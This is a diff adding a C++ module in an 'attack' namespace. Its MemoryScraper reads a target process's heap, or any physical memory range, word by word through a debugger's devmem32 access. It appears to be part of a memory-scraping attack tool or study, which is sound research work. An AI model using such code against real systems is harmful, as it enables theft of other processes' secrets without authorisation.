@@ -1,0 +1,49 @@
+#include "attack/scraper.h"
+
+namespace msa::attack {
+
+ScrapedDump MemoryScraper::scrape(const ResolvedTarget& target) {
+  ScrapedDump dump;
+  dump.pid = target.pid;
+  dump.va_start = target.heap_start;
+  dump.bytes.reserve(static_cast<std::size_t>(target.heap_bytes()));
+
+  for (std::size_t page = 0; page < target.page_pa.size(); ++page) {
+    const std::uint64_t page_remaining =
+        std::min<std::uint64_t>(mem::kPageSize,
+                                target.heap_bytes() - page * mem::kPageSize);
+    if (!target.page_pa[page]) {
+      dump.bytes.insert(dump.bytes.end(),
+                        static_cast<std::size_t>(page_remaining), 0);
+      ++dump.pages_unmapped;
+      continue;
+    }
+    const dram::PhysAddr pa = *target.page_pa[page];
+    for (std::uint64_t off = 0; off < page_remaining; off += 4) {
+      const std::uint32_t w = debugger_.devmem32(pa + off);
+      ++dump.devmem_reads;
+      const std::uint64_t take = std::min<std::uint64_t>(4, page_remaining - off);
+      for (std::uint64_t b = 0; b < take; ++b) {
+        dump.bytes.push_back(static_cast<std::uint8_t>((w >> (8 * b)) & 0xFF));
+      }
+    }
+  }
+  return dump;
+}
+
+ScrapedDump MemoryScraper::scrape_physical_range(dram::PhysAddr base,
+                                                 std::uint64_t len) {
+  ScrapedDump dump;
+  dump.bytes.reserve(static_cast<std::size_t>(len));
+  for (std::uint64_t off = 0; off < len; off += 4) {
+    const std::uint32_t w = debugger_.devmem32(base + off);
+    ++dump.devmem_reads;
+    const std::uint64_t take = std::min<std::uint64_t>(4, len - off);
+    for (std::uint64_t b = 0; b < take; ++b) {
+      dump.bytes.push_back(static_cast<std::uint8_t>((w >> (8 * b)) & 0xFF));
+    }
+  }
+  return dump;
+}
+
+}  // namespace msa::attack
